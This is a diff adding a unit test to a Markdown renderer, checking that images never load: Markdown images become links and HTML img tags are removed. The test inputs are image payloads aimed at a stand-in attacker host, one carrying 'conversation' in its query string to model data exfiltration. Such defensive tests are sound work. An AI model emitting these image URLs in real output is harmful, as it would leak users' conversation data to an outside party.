@@ -29,4 +29,11 @@ describe('renderMarkdown', () => {
   it('opens links in a new tab without an opener', () => {
     expect(renderMarkdown('[docs](https://example.com)')).toContain('rel="noopener noreferrer nofollow"')
   })
+
+  it('never loads an image: Markdown images become links, HTML images are removed', () => {
+    const html = renderMarkdown('![secret <b>x</b>](https://attacker.example/?q=conversation)\n\n<img src="https://attacker.example/2">')
+    expect(html).not.toMatch(/<img/i)
+    expect(html).toContain('<a href="https://attacker.example/?q=conversation"')
+    expect(html).toContain('[image: secret &lt;b&gt;x&lt;/b&gt;]')
+  })
 })
